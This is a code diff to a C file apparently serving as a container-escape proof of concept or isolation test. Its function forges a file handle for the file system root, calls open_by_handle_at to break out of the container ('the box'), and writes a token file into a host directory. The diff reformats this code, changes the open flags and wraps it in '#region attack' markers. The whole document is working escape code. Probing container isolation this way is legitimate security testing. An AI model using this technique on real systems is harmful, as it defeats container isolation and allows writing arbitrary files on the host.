@@ -5,6 +5,7 @@
  */
 #include "attack.h"
 
+// #region attack
 /* argv: a token's path, from the root of the file system. */
 void file_handle(char **argv)
 {
@@ -12,8 +13,11 @@ void file_handle(char **argv)
 		struct file_handle head;
 		uint32_t inode, generation;
 	} root = { { .handle_bytes = 8, .handle_type = 1 }, 2, 0 };
-	const int here = must(open("/", O_RDONLY | O_DIRECTORY), "open the box's root");
-	const int above = must(open_by_handle_at(here, &root.head, O_RDONLY | O_DIRECTORY), "open the file system's root by its number");
-	const int token = must(openat(above, argv[0], O_WRONLY | O_CREAT, 0644), "write into a directory of the host");
+	int here = must(open("/", O_RDONLY), "open the box's root");
+	int above = must(open_by_handle_at(here, &root.head, O_RDONLY),
+		"open the file system's root by its number");
+	int token = must(openat(above, argv[0], O_WRONLY | O_CREAT, 0644),
+		"write into a directory of the host");
 	must(write(token, "out\n", 4), "write a token");
 }
+// #endregion attack
